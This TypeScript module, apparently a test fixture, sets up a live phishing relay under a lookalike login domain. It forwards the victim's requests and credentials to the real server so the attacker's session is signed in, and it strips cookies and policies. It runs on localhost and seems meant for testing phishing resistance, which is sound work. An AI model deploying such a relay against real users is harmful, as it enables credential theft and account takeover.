import { readFileSync } from 'node:fs'
import { createServer } from 'node:https'
import { buffer } from 'node:stream/consumers'
import type { Certificates } from './certificates.ts'
import { openPlainBrowser, type PlainBrowser } from './plain-browser.ts'

/** A page that looks like ours because it is ours: whatever is typed there goes on to the true server, live. */
export interface PhishingSite {
  /** Under a name that looks right. */
  readonly url: URL
  /** The attacker's own browser: it is the one that the server sees, and that is signed in at the end. */
  readonly attacker: PlainBrowser
  /** Forget whoever came last. */
  begin(): void
  close(): Promise<void>
}

/** A name that people take for the organisation's. */
export const phishingName = 'login.juniper-example.test'

/** Open one in front of a server. Its certificate is real, as they are. */
export async function openPhishingSite(
  target: URL,
  { certificateFile, keyFile }: Certificates,
): Promise<PhishingSite> {
  let attacker = openPlainBrowser(target)
  const tls = { cert: readFileSync(certificateFile), key: readFileSync(keyFile) }
  const server = createServer(tls, async (request, response) => {
    const path = request.url ?? '/'
    const body = await buffer(request)
    const answer = await attacker.fetch(new URL(path, target), {
      method: request.method ?? 'GET',
      headers: {
        accept: request.headers.accept ?? '*/*',
        'user-agent': request.headers['user-agent'] ?? '',
        ...(request.headers['content-type'] && { 'content-type': request.headers['content-type'] }),
      },
      ...(body.length > 0 && { body: new Uint8Array(body) }),
    })
    // Neither cookies nor policies of the true server reach the victim.
    const location = answer.headers.get('location')?.replace(target.origin, '')
    response.writeHead(answer.status, {
      'content-type': answer.headers.get('content-type') ?? 'text/plain',
      ...(location !== undefined && { location }),
    })
    response.end(new Uint8Array(await answer.arrayBuffer()))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  const port = typeof address === 'object' ? address?.port : 0
  return {
    url: new URL(`https://${phishingName}:${port}`),
    get attacker() {
      return attacker
    },
    begin() {
      attacker = openPlainBrowser(target)
    },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}
